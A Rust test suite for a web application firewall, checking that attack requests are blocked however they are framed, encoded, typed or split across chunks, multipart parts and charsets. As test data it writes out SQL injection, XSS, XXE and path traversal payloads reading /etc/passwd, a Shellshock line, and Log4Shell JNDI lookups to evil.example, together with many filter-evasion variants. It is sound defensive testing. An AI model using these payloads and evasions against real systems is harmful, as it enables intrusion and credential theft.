//! Attacks in odd clothes, as raw bytes: none of them reaches the origin in block mode, however the request is framed, typed or encoded.

use leeward_tests::wait::{self, PATIENCE};

use super::*;

const SQL: &str = "1' union select password from users-- -";
const SQL_ENCODED: &str = "1%27+union+select+password+from+users--+-";

/// A request of these lines, with fields that every browser sends.
fn raw(line: &str, fields: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("{line} HTTP/1.1\r\nHost: {BLOCK}\r\nUser-Agent: test\r\nAccept: */*\r\n{fields}\r\n");
    [head.as_bytes(), body].concat()
}

fn sized(line: &str, fields: &str, body: &[u8]) -> Vec<u8> {
    raw(line, &format!("{fields}Content-Length: {}\r\n", body.len()), body)
}

fn chunked(line: &str, fields: &str, body: &[u8], size: usize) -> Vec<u8> {
    let chunks: Vec<u8> = body
        .chunks(size)
        .flat_map(|chunk| [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat())
        .chain(b"0\r\n\r\n".iter().copied())
        .collect();
    raw(line, &format!("{fields}Transfer-Encoding: chunked\r\n"), &chunks)
}

const TYPE_FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
const TYPE_JSON: &str = "Content-Type: application/json\r\n";
const TYPE_PARTS: &str = "Content-Type: multipart/form-data; boundary=xx\r\n";

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

type Cases = [(&'static str, Vec<u8>)];

/// Sends each on a connection of its own: a refusal, and nothing at the origin. The harmless one that is sent behind it passes.
fn none_passes(cases: &Cases) {
    let origin = origin();
    let edge = Edge::start(&setup(&origin, "mode: off, deadline: 20s"));
    let mut passed = Vec::new();
    for (name, bytes) in cases {
        let before = origin.count();
        let mut connection = edge.http().connect().unwrap();
        connection.within(PATIENCE);
        let method = if bytes.starts_with(b"HEAD") { "HEAD" } else { "GET" };
        let status = connection.exchange(bytes, method).map(|answer| answer.status());
        if !matches!(status, Ok(400 | 403 | 413 | 415)) || origin.count() > before {
            passed.push(format!("{name}: {status:?}, {} at the origin", origin.count() - before));
        }
    }
    assert!(passed.is_empty(), "{} of {}: {passed:#?}", passed.len(), cases.len());
    assert_eq!(ask(&edge, &post(BLOCK, "/f", FORM, b"a=1&q=b")).status(), 200);
}

#[test]
fn no_form_hides_an_attack_by_its_framing_or_type() {
    let f = format!("a=1&q={SQL_ENCODED}");
    let (form, json) = (TYPE_FORM, TYPE_JSON);
    none_passes(&[
        ("plain", sized("POST /f", form, f.as_bytes())),
        ("chunked 1", chunked("POST /f", form, f.as_bytes(), 1)),
        (
            "chunked ext",
            raw(
                "POST /f",
                &format!("{form}Transfer-Encoding: chunked\r\n"),
                format!("{:x};a=b\r\n{f}\r\n0\r\nX-T: a\r\n\r\n", f.len()).as_bytes(),
            ),
        ),
        ("PUT", sized("PUT /f", form, f.as_bytes())),
        ("PATCH", sized("PATCH /f", form, f.as_bytes())),
        ("DELETE", sized("DELETE /f", form, f.as_bytes())),
        ("OPTIONS", sized("OPTIONS /f", form, f.as_bytes())),
        ("GET body", sized("GET /f", form, f.as_bytes())),
        ("HEAD body", sized("HEAD /f", form, f.as_bytes())),
        ("semicolon", sized("POST /f", form, f.replace('&', ";").as_bytes())),
        ("dup ct same", sized("POST /f", &format!("{form}{form}"), f.as_bytes())),
        ("dup ct", sized("POST /f", &format!("{json}{form}"), f.as_bytes())),
        ("ct tab", sized("POST /f", "Content-Type:\tapplication/x-www-form-urlencoded\t\r\n", f.as_bytes())),
        ("ct leading ;", sized("POST /f", "Content-Type: ;application/x-www-form-urlencoded\r\n", f.as_bytes())),
        ("ct empty", sized("POST /f", "Content-Type: \r\n", f.as_bytes())),
        ("ct quoted", sized("POST /f", "Content-Type: \"application/x-www-form-urlencoded\"\r\n", f.as_bytes())),
        ("null", sized("POST /f", form, format!("a=%00{SQL_ENCODED}").as_bytes())),
        ("raw null", sized("POST /f", form, format!("a=\0{SQL_ENCODED}").as_bytes())),
        ("double encoded", sized("POST /f", form, f.replace('%', "%25").replace('+', "%2520").as_bytes())),
        ("overlong", sized("POST /f", form, b"a=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be")),
        ("%u", sized("POST /f", form, b"a=%u003cscript%u003ealert(1)%u003c/script%u003e")),
        ("split args hpp", sized("POST /f", form, b"q=1'/*&q=*/union/*&q=*/select password from users-- -")),
        ("xml", sized("POST /f", "Content-Type: text/xml\r\n", format!("<a>{SQL}</a>").as_bytes())),
        (
            "xml dtd",
            sized(
                "POST /f",
                "Content-Type: text/xml\r\n",
                b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            ),
        ),
        (
            "xml svg",
            sized(
                "POST /f",
                "Content-Type: image/svg+xml\r\n",
                b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            ),
        ),
        ("xml notype", sized("POST /f", "", b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
        ("gzip", sized("POST /f", &format!("{form}Content-Encoding: gzip\r\n"), f.as_bytes())),
        ("te gzip chunked", raw("POST /f", &format!("{form}Transfer-Encoding: gzip, chunked\r\n"), b"0\r\n\r\n")),
        ("ce identity", sized("POST /f", &format!("{form}Content-Encoding: identity\r\n"), f.as_bytes())),
        ("method override", sized("POST /f", &format!("{form}X-HTTP-Method-Override: PUT\r\n"), f.as_bytes())),
        ("expect", sized("POST /f", &format!("{form}Expect: 100-continue\r\n"), f.as_bytes())),
    ]);
}

#[test]
fn no_form_hides_an_attack_by_its_charset() {
    let f = format!("a=1&q={SQL_ENCODED}");
    none_passes(&[
        (
            "utf16le",
            sized("POST /f", "Content-Type: application/x-www-form-urlencoded; charset=utf-16le\r\n", &utf16(&f)),
        ),
        (
            "ibm037",
            sized("POST /f", "Content-Type: application/x-www-form-urlencoded; charset=ibm037\r\n", f.as_bytes()),
        ),
        (
            "ibm500 quoted",
            sized("POST /f", "Content-Type: application/x-www-form-urlencoded; charset=\"ibm500\"\r\n", f.as_bytes()),
        ),
        (
            "two charsets",
            sized(
                "POST /f",
                "Content-Type: application/x-www-form-urlencoded; charset=utf-8; charset=ibm037\r\n",
                f.as_bytes(),
            ),
        ),
        (
            "charset no space",
            sized("POST /f", "Content-Type: application/x-www-form-urlencoded;charset=utf-7\r\n", f.as_bytes()),
        ),
        (
            "charset spaced",
            sized(
                "POST /f",
                "Content-Type: application/x-www-form-urlencoded; charset = utf-7\r\n",
                b"a=+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            ),
        ),
        (
            "charset single",
            sized(
                "POST /f",
                "Content-Type: application/x-www-form-urlencoded; charset='utf-7'\r\n",
                b"a=+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            ),
        ),
    ]);
}

#[test]
fn no_json_hides_an_attack() {
    let f = format!("a=1&q={SQL_ENCODED}");
    let (form, json) = (TYPE_FORM, TYPE_JSON);
    let j = |text: &str| text.replace("SQL", SQL).into_bytes();
    none_passes(&[
        ("plain", sized("POST /f", json, &j(r#"{"q":"SQL"}"#))),
        ("dup keys", sized("POST /f", json, &j(r#"{"q":"SQL","q":"b"}"#))),
        ("dup keys 2", sized("POST /f", json, &j(r#"{"q":"b","q":"SQL"}"#))),
        ("key", sized("POST /f", json, &j(r#"{"SQL":1}"#))),
        ("top string", sized("POST /f", json, &j(r#""SQL""#))),
        ("array", sized("POST /f", json, &j(r#"["SQL"]"#))),
        (
            "unicode esc",
            sized("POST /f", json, br#"{"q":"\u0031\u0027\u0020union\u0020select password from users-- -"}"#),
        ),
        ("bom", sized("POST /f", json, &j("\u{feff}{\"q\":\"SQL\"}"))),
        ("utf16", sized("POST /f", json, &utf16(&format!("{{\"q\":\"{SQL}\"}}")))),
        ("big number", sized("POST /f", json, &j(&format!(r#"{{"n":1{},"q":"SQL"}}"#, "0".repeat(400))))),
        ("1e999", sized("POST /f", json, &j(r#"{"n":1e999,"q":"SQL"}"#))),
        ("comment", sized("POST /f", json, &j(r#"/*a*/{"q":"SQL"}"#))),
        ("two docs", sized("POST /f", json, &j(r#"{"a":1}{"q":"SQL"}"#))),
        ("two docs nl", sized("POST /f", json, &j("{\"a\":1}\n{\"q\":\"SQL\"}"))),
        ("deep", sized("POST /f", json, &j(&format!("{}{}{}", "[".repeat(33), "\"SQL\"", "]".repeat(33))))),
        ("invalid utf8", sized("POST /f", json, b"{\"q\":\"\xff1' union select password from users-- -\"}")),
        ("nul esc", sized("POST /f", json, &j(r#"{"q":"\u0000SQL"}"#))),
        ("nul key", sized("POST /f", json, &j(r#"{"q\u0000x":"SQL"}"#))),
        ("number attack", sized("POST /f", json, br#"{"q":1 union select password from users}"#)),
        ("empty key", sized("POST /f", json, &j(r#"{"":"SQL"}"#))),
        ("type +json", sized("POST /f", "Content-Type: application/vnd.api+json\r\n", &j(r#"{"q":"SQL"}"#))),
        ("as form", sized("POST /f", form, &j(r#"{"q":"SQL"}"#))),
        ("form as json", sized("POST /f", json, f.as_bytes())),
        ("many", sized("POST /f", json, &j(&format!("[{}\"SQL\"]", "1,".repeat(300))))),
    ]);
}

#[test]
fn no_multipart_form_hides_an_attack() {
    let mp = TYPE_PARTS;
    let part = |head: &str, value: &str| format!("--xx\r\n{head}\r\n\r\n{value}\r\n--xx--\r\n").into_bytes();
    none_passes(&[
        ("plain", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("quoted b", sized("POST /f", "Content-Type: multipart/form-data; boundary=\"xx\"\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("quoted b semicolon", sized("POST /f", "Content-Type: multipart/form-data; boundary=\"x;x\"\r\n", &String::from_utf8(part("Content-Disposition: form-data; name=\"q\"", SQL)).unwrap().replace("xx", "x;x").into_bytes())),
        ("boundary first other", sized("POST /f", "Content-Type: multipart/form-data; x=boundary=yy; boundary=xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("no semicolon", sized("POST /f", "Content-Type: multipart/form-data boundary=xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("comma", sized("POST /f", "Content-Type: multipart/form-data, boundary=xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("boundary trailing", sized("POST /f", "Content-Type: multipart/form-data; boundary=xx,yy\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("boundary ws", sized("POST /f", "Content-Type: multipart/form-data; boundary=xx yy\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("rfc2231", sized("POST /f", "Content-Type: multipart/form-data; boundary*=utf-8''xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("rfc2231 cont", sized("POST /f", "Content-Type: multipart/form-data; boundary*0=x; boundary*1=x\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("lf", sized("POST /f", mp, &String::from_utf8(part("Content-Disposition: form-data; name=\"q\"", SQL)).unwrap().replace("\r\n", "\n").into_bytes())),
        ("cr", sized("POST /f", mp, &String::from_utf8(part("Content-Disposition: form-data; name=\"q\"", SQL)).unwrap().replace("\r\n", "\r").into_bytes())),
        ("no final", sized("POST /f", mp, format!("--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{SQL}").as_bytes())),
        ("preamble", sized("POST /f", mp, format!("a\r\n--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{SQL}\r\n--xx--\r\n").as_bytes())),
        ("early end", sized("POST /f", mp, format!("--xx\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--xx--\r\n--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{SQL}\r\n--xx--\r\n").as_bytes())),
        ("boundary in file", sized("POST /f", mp, format!("--xx\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a\"\r\n\r\nb\r\n--xxy\r\n--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{SQL}\r\n--xx--\r\n").as_bytes())),
        ("filename twice", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"; filename=\"a.txt\"; filename=\"\"", SQL))),
        ("name twice", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"; name=\"b\"", SQL))),
        ("cd twice", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"a\"; filename=\"a.txt\"\r\nContent-Disposition: form-data; name=\"q\"", SQL))),
        ("cd twice 2", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a.txt\"", SQL))),
        ("filename*", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"; filename*=utf-8''a.txt", SQL))),
        ("filename in name", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q; filename=a.txt\"", SQL))),
        ("filename escaped", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\\\"; filename=\\\"a.txt\"", SQL))),
        ("filename case", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"; FileName=\"a.txt\"", SQL))),
        ("filename space", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"; filename =\"a.txt\"", SQL))),
        ("filename dup cd param", sized("POST /f", mp, &part("Content-Disposition: attachment; filename=\"a.txt\"; name=\"q\"", SQL))),
        ("cd folded", sized("POST /f", mp, &part("Content-Disposition: form-data;\r\n name=\"q\"", SQL))),
        ("mixed", sized("POST /f", "Content-Type: multipart/mixed; boundary=xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
        ("nested", sized("POST /f", mp, &part("Content-Disposition: form-data; name=\"q\"\r\nContent-Type: multipart/mixed; boundary=yy", &format!("--yy\r\n\r\n{SQL}\r\n--yy--")))),
        ("charset field", sized("POST /f", mp, b"--xx\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-7\r\n--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n+ADw-script+AD4-alert(1)\r\n--xx--\r\n")),
        ("utf16", sized("POST /f", "Content-Type: multipart/form-data; charset=utf-16; boundary=xx\r\n", &part("Content-Disposition: form-data; name=\"q\"", SQL))),
    ]);
}

#[test]
fn no_path_query_cookie_or_field_hides_an_attack() {
    none_passes(&[
        ("path trav", raw("GET /../../../../etc/passwd", "", b"")),
        ("path trav enc", raw("GET /%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", b"")),
        ("path trav 2enc", raw("GET /%252e%252e/%252e%252e/etc/passwd", "", b"")),
        ("path xss", raw("GET /%3Cscript%3Ealert(1)%3C/script%3E", "", b"")),
        ("path env", raw("GET /.env", "", b"")),
        ("path git", raw("GET /.git/config", "", b"")),
        ("absolute", raw(&format!("GET http://{BLOCK}/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "", b"")),
        ("absolute userinfo", raw(&format!("GET http://u@{BLOCK}/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "", b"")),
        ("fragment", raw("GET /a#?q=<script>alert(1)</script>", "", b"")),
        ("second ?", raw("GET /a?b?q=%3Cscript%3Ealert(1)%3C/script%3E", "", b"")),
        ("query name", raw("GET /a?%3Cscript%3Ealert(1)%3C/script%3E", "", b"")),
        ("query raw", raw("GET /a?q=<script>alert(1)</script>", "", b"")),
        ("cookie", raw("GET /a", &format!("Cookie: a=b; q={SQL}\r\n"), b"")),
        ("cookie name", raw("GET /a", "Cookie: <script>alert(1)</script>=b\r\n", b"")),
        ("cookie quoted", raw("GET /a", "Cookie: q=\"<script>alert(1)</script>\"\r\n", b"")),
        ("cookie two fields", raw("GET /a", &format!("Cookie: a=b\r\nCookie: q={SQL}\r\n"), b"")),
        ("cookie comma", raw("GET /a", &format!("Cookie: a=b, q={SQL}\r\n"), b"")),
        ("cookie encoded", raw("GET /a", "Cookie: q=%3Cscript%3Ealert(1)%3C/script%3E\r\n", b"")),
        ("referer", raw("GET /a", "Referer: http://x/?q=<script>alert(1)</script>\r\n", b"")),
        ("ua xss", format!("GET /a HTTP/1.1\r\nHost: {BLOCK}\r\nUser-Agent: <script>alert(1)</script>\r\nAccept: */*\r\n\r\n").into_bytes()),
        ("ua shellshock", format!("GET /a HTTP/1.1\r\nHost: {BLOCK}\r\nUser-Agent: () {{ :; }}; /bin/cat /etc/passwd\r\nAccept: */*\r\n\r\n").into_bytes()),
        ("ua jndi", format!("GET /a HTTP/1.1\r\nHost: {BLOCK}\r\nUser-Agent: ${{jndi:ldap://evil.example/a}}\r\nAccept: */*\r\n\r\n").into_bytes()),
        ("x header jndi", raw("GET /a", "X-Api: ${jndi:ldap://evil.example/a}\r\n", b"")),
        ("header name", raw("GET /a", "X-<script>: a\r\n", b"")),
        ("http10", format!("GET /a?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.0\r\nHost: {BLOCK}\r\nUser-Agent: a\r\nAccept: */*\r\n\r\n").into_bytes()),
    ]);
}

#[test]
fn what_is_harmless_passes_in_the_same_clothes() {
    let origin = origin();
    let edge = Edge::start(&setup(&origin, "mode: off, deadline: 20s"));
    let part = |head: &str, value: &str| format!("--xx\r\n{head}\r\n\r\n{value}\r\n--xx--\r\n").into_bytes();
    let many: String = (0..255).map(|n| format!("a{n}=1&")).collect();
    let cases: Vec<(&'static str, Vec<u8>)> = vec![
        ("a form in chunks of one byte", chunked("POST /f", TYPE_FORM, b"a=1&q=it+is+fine", 1)),
        ("a form that is expected", sized("POST /f", &format!("{TYPE_FORM}Expect: 100-continue\r\n"), b"a=1")),
        ("255 arguments", sized("POST /f", TYPE_FORM, many.trim_end_matches('&').as_bytes())),
        ("json", chunked("PUT /f", TYPE_JSON, br#"{"q":[1,2.5e3,"\u00e4",{"r":null}],"q":true}"#, 7)),
        (
            "a name without quotes",
            sized("POST /f", TYPE_PARTS, &part("Content-Disposition: form-data; name=q; filename=a.txt", SQL)),
        ),
        (
            "a boundary in quotes",
            sized(
                "POST /f",
                "Content-Type: multipart/form-data; boundary=\"xx\"\r\n",
                &part("Content-Disposition: form-data; name=\"q\"", "b"),
            ),
        ),
        ("no body and no type", sized("POST /f", "", b"")),
        ("a body without a type", sized("POST /f", "", b"{\"q\": \"fine\"}")),
    ];
    for (name, bytes) in cases {
        let before = origin.count();
        let mut connection = edge.http().connect().unwrap();
        let answer = connection.exchange(&bytes, "POST").unwrap();
        assert_eq!((answer.status(), origin.count()), (200, before + 1), "{name}: {}", answer.text());
    }
    // the origin gets each as it was sent
    let last = origin.received().pop().unwrap();
    assert_eq!(last.body, b"{\"q\": \"fine\"}");
}

#[test]
fn a_body_of_exactly_the_limit_is_judged_whole_and_one_byte_more_is_over_it() {
    let origin = origin();
    for (over, framed, length, attack_at, status) in [
        ("partial", false, 4096, 4096, 403),
        ("partial", true, 4096, 4096, 403),
        ("partial", false, 4097, 4000, 403),
        ("partial", false, 4096, 0, 200),
        ("partial", false, 4097, 0, 200),
        // what is behind the limit is not seen
        ("partial", false, 6000, 6000, 200),
        ("reject", false, 4096, 0, 200),
        ("reject", true, 4096, 0, 200),
        ("reject", false, 4097, 0, 413),
        ("reject", true, 4097, 0, 413),
        ("reject", false, 4096, 4096, 403),
    ] {
        let edge = Edge::start(&setup(
            &origin,
            &format!("mode: off, deadline: 20s, body_limit: 4KiB, body_over_limit: {over}"),
        ));
        // ends with the attack where there is one
        let mut body = "a=b&".repeat(60) + "c=";
        if attack_at > 0 {
            let attack = format!("&q={SQL_ENCODED}");
            body += &"x".repeat(attack_at - body.len() - attack.len());
            body += &attack;
        }
        body += &"x".repeat(length - body.len());
        let mut request = post(BLOCK, "/f", FORM, body.as_bytes());
        request.chunked = framed;
        let before = origin.count();
        let what = format!("{over}, chunked {framed}, {length} bytes, an attack before {attack_at}");
        assert_eq!(ask(&edge, &request).status(), status, "{what}");
        assert_eq!(origin.count() - before, usize::from(status == 200), "{what}");
        if status == 200 {
            assert_eq!(origin.received().pop().unwrap().body, body.as_bytes(), "{what}");
        }
        let cut = edge.metrics().sum_of("leeward_waf_body_truncated_total");
        assert_eq!(cut, f64::from(length > 4096 && (over == "partial" || framed)), "{what}");
    }
}

#[test]
fn pipelined_bodies_are_judged_one_by_one() {
    let origin = origin();
    let edge = Edge::start(&setup(&origin, "mode: off, deadline: 20s"));
    let fine = |n: usize| sized("POST /f", TYPE_FORM, format!("n={n}").as_bytes());
    let attack = sized("POST /f", TYPE_FORM, format!("q={SQL_ENCODED}").as_bytes());
    let mut connection = edge.http().connect().unwrap();
    connection.within(PATIENCE);
    connection.send(&[fine(1), chunked("POST /f", TYPE_FORM, b"n=2", 1), attack, fine(3)].concat()).unwrap();
    let statuses: Vec<_> = (0..4).map_while(|_| connection.read("POST").ok()).map(|answer| answer.status()).collect();
    // behind a refusal the connection may end; what comes is never the answer to another request
    assert!(statuses == [200, 200, 403] || statuses == [200, 200, 403, 200], "{statuses:?}");
    let bodies: Vec<_> = origin.received().into_iter().map(|received| received.body).collect();
    assert!(bodies.iter().all(|body| body.starts_with(b"n=")), "{bodies:?}");
    assert_eq!(bodies[..2], [b"n=1".to_vec(), b"n=2".to_vec()]);
}

#[test]
fn clients_that_leave_while_their_bodies_are_held_or_judged_leave_nothing_behind() {
    let origin = origin();
    let edge = Edge::start(&setup(&origin, "mode: off, deadline: 20s"));
    let costly: String = (0..4).map(|n| format!("{n:02}={}&", "=".repeat(4000))).collect();
    let whole = sized("POST /f", TYPE_FORM, costly.as_bytes());
    for n in 0..60 {
        let mut connection = edge.http().connect().unwrap();
        let sent = match n % 3 {
            0 => whole.len() / 2,
            1 => whole.len() - costly.len(),
            _ => whole.len(),
        };
        connection.send(&whole[..sent]).unwrap();
        if n % 2 == 0 { connection.reset() } else { drop(connection) }
    }
    // those who left whole bodies may still fill the queue
    wait::until("a place in the queue", PATIENCE, || {
        (ask(&edge, &post(BLOCK, "/f", FORM, b"a=1")).status() == 200).then_some(())
    });
    let idle = || (edge.metrics().sum_of("leeward_waf_queue") == 0.0).then_some(());
    wait::until("an empty queue", PATIENCE, idle);
    assert_eq!(origin.received().iter().filter(|received| received.body.len() > 3).count(), 0);
    assert_eq!(ask(&edge, &post(BLOCK, "/f", FORM, format!("q={SQL_ENCODED}").as_bytes())).status(), 403);
}

#[test]
fn a_body_that_is_expected_is_asked_for_once_and_judged() {
    let origin = origin();
    let edge = Edge::start(&setup(&origin, "mode: off, deadline: 20s"));
    for (body, status) in [("a=1".to_owned(), 200), (format!("q={SQL_ENCODED}"), 403)] {
        let mut connection = edge.http().connect().unwrap();
        connection.within(PATIENCE);
        let head = sized("POST /f", &format!("{TYPE_FORM}Expect: 100-continue\r\n"), body.as_bytes());
        connection.send(&head[..head.len() - body.len()]).unwrap();
        let interim = connection.read_head().unwrap();
        assert_eq!(interim.word(1), "100");
        connection.send(body.as_bytes()).unwrap();
        let answer = connection.read("POST").unwrap();
        assert_eq!((answer.status(), answer.interim.len()), (status, 0), "{body}");
    }
    assert_eq!(origin.count(), 1);
}
